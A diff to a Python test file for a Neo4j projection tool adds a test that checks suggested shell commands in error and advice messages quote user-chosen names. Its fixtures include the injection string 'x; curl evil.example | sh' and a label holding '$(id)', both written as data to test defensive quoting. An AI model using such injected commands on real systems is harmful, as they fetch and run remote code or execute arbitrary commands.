@@ -14,8 +14,10 @@ from neo4j.time import Date, DateTime, Duration
 from heat_neo4j.cli.commands.runs import _row
 from heat_neo4j.cli.report import describe
 from heat_neo4j.database.naming import WriteNames
+from heat_neo4j.database.projection import Projection
 from heat_neo4j.database.publish.inspection import _state
-from heat_neo4j.database.runs import _MODEL, RunRecord, _camel, read_bookkeeping
+from heat_neo4j.database.read.key_advice import key_advice
+from heat_neo4j.database.runs import _MODEL, DAMAGED, Bookkeeping, RunRecord, _camel, read_bookkeeping
 from heat_neo4j.database.versions import (
     _KINDS,
     at_rest,
@@ -132,3 +134,15 @@ def test_a_seed_that_no_run_had_is_damage(seed):
 @pytest.mark.parametrize("previous", ["{", "[1]", "null", 3, [1], "[" * 100_000])
 def test_a_way_back_that_cannot_be_read_is_none(previous):
     assert previous_of({"run": "r", "previous": previous}) == {}
+
+
+def test_a_command_in_a_message_quotes_names_that_others_chose():
+    """Whoever may write to the database chooses them, and somebody else copies the command."""
+    model = "x; curl evil.example | sh"
+    book = Bookkeeping([{"name": model, DAMAGED: ("space",)}], ())
+    with pytest.raises(ProjectionError, match=re.escape(f"`heat clear --model '{model}'` removes")):
+        book.published(model)
+    rows = [{"label": label, "property": "id"} for label in ("My $(id)", "L" * 90, "Paper")]
+    connection = SimpleNamespace(read=lambda statement, doing: rows)
+    (advice,) = key_advice(connection, Projection(), {row["label"] for row in rows})
+    assert advice.endswith("unique here: --key 'My $(id)=id' --key Paper=id")
